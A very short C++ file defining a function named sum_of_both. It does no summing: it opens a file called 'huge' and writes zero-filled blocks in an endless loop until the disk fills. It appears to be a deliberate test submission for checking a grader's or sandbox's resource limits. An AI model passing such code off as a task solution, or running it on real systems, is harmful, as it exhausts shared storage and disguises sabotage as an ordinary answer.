#include "sum_of_both.hpp"

#include <cstdio>

int sum_of_both(int (*)(int index)) {
  static const char block[1 << 16] = {};
  std::FILE* file = std::fopen("huge", "w");
  while (true) std::fwrite(block, 1, sizeof block, file);
}
